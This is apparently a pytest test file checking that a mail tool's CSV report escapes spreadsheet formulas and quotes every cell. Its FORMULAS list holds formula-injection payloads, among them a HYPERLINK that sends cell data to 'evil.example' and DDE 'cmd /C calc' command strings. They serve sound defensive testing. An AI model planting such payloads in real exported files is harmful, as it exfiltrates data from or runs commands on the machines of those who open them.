import csv
import io

import pytest
from mailgrid_plugins.observers.report.rows import COLUMNS, written

from mailgrid.hookspecs import Fate, Reply

#: What spreadsheets have taken for a formula.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "+name@mail.example",
]


def rows(*fates: Fate) -> list[dict[str, str]]:
    file = io.StringIO(newline="")
    assert list(written(fates, file)) == list(fates)
    file.seek(0)
    return list(csv.DictReader(file, strict=True))


@pytest.mark.parametrize("payload", FORMULAS)
def test_e8_no_cell_is_a_formula(payload: str) -> None:
    reply = Reply(code=550, enhanced=payload, text=payload)
    (row,) = rows(Fate(line=2, key=payload, address=payload, status="failed", reason=payload, reply=reply))
    for column in ("key", "address", "reason", "enhanced", "reply"):
        assert row[column] == f"'{payload}"


def test_e8_every_cell_is_quoted() -> None:
    file = io.StringIO(newline="")
    reply = Reply(code=550, enhanced="5.1.1", text='no, "x"\r\nis unknown; sorry')
    fate = Fate(line=7, key="a,b", address="a@x.example", status="failed", reason="refused for good", reply=reply)
    assert list(written([fate], file)) == [fate]
    head, rest = file.getvalue().split("\r\n", 1)
    assert head == ",".join(f'"{name}"' for name in COLUMNS)
    assert rest == (
        '"7","a,b","a@x.example","failed","refused for good","550","5.1.1","no, ""x""\r\nis unknown; sorry","",""\r\n'
    )


def test_a_row_that_was_tried() -> None:
    (row,) = rows(Fate(line=0, key="", address="", status="sent", reason="", attempts=2, time=1_780_000_000.5))
    assert (row["line"], row["attempts"], row["time"], row["code"]) == ("", "2", "2026-05-28T20:26:40Z", "")
